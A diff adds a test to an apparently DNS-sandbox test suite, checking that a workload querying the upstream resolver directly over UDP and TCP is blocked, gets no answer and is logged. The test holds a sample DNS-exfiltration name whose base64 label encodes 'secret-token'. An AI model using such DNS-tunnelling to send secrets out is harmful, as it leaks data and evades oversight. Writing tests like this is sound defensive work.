@@ -341,6 +341,22 @@ t.test('7. a name no rule covers: REFUSED, never forwarded, a dns_denied event n
   await verified(t, r);
 });
 
+t.test('a query straight to the upstream, around the stub (UDP and TCP): denied, nothing reaches it', async (t) => {
+  if (!requireKernel(t)) return;
+  const auth = await authority(t, { 'api.test': [A('api.test', '127.0.0.1')] });
+  // a workload that knows the upstream tries to use it as its own resolver
+  // (or as a channel out): the long unique label is the payload
+  const name = 'c2VjcmV0LXRva2Vu.exfil.test';
+  const r = await runOp(t, 'gs-dnb', { leases: [hostRule('api.test', 443)] }, up(auth), sh(client('--server', up(auth), 'ask', `${name}/A`, `${name}/TXT/tcp`)));
+  t.equal(r.code, 0, r.stderr);
+  t.match(r.out, [{ name, rcode: 'TIMEOUT' }, { name, transport: 'tcp', rcode: 'TIMEOUT' }], 'no answer either way');
+  t.equal(auth.count, 0, 'not one question reached the upstream');
+  const denied = r.events.filter((l) => l.type === 'boundary' && (l.event as { target?: string }).target === up(auth));
+  t.ok(denied.length >= 2 && denied.every((l) => (l.event as { kind: string }).kind === 'fault_denied'), 'each attempt is a fault_denied event naming the upstream');
+  t.same(ofKind(r, 'lease_intent'), [], 'nothing leased');
+  await verified(t, r);
+});
+
 t.test('8. the DNS budget spent: REFUSED with control dns/budget, dns_names counted', async (t) => {
   if (!requireKernel(t)) return;
   const auth = await authority(t, Object.fromEntries([1, 2, 3, 4].map((i) => [`n${i}.b.test`, [A(`n${i}.b.test`, '127.0.0.1')]])));
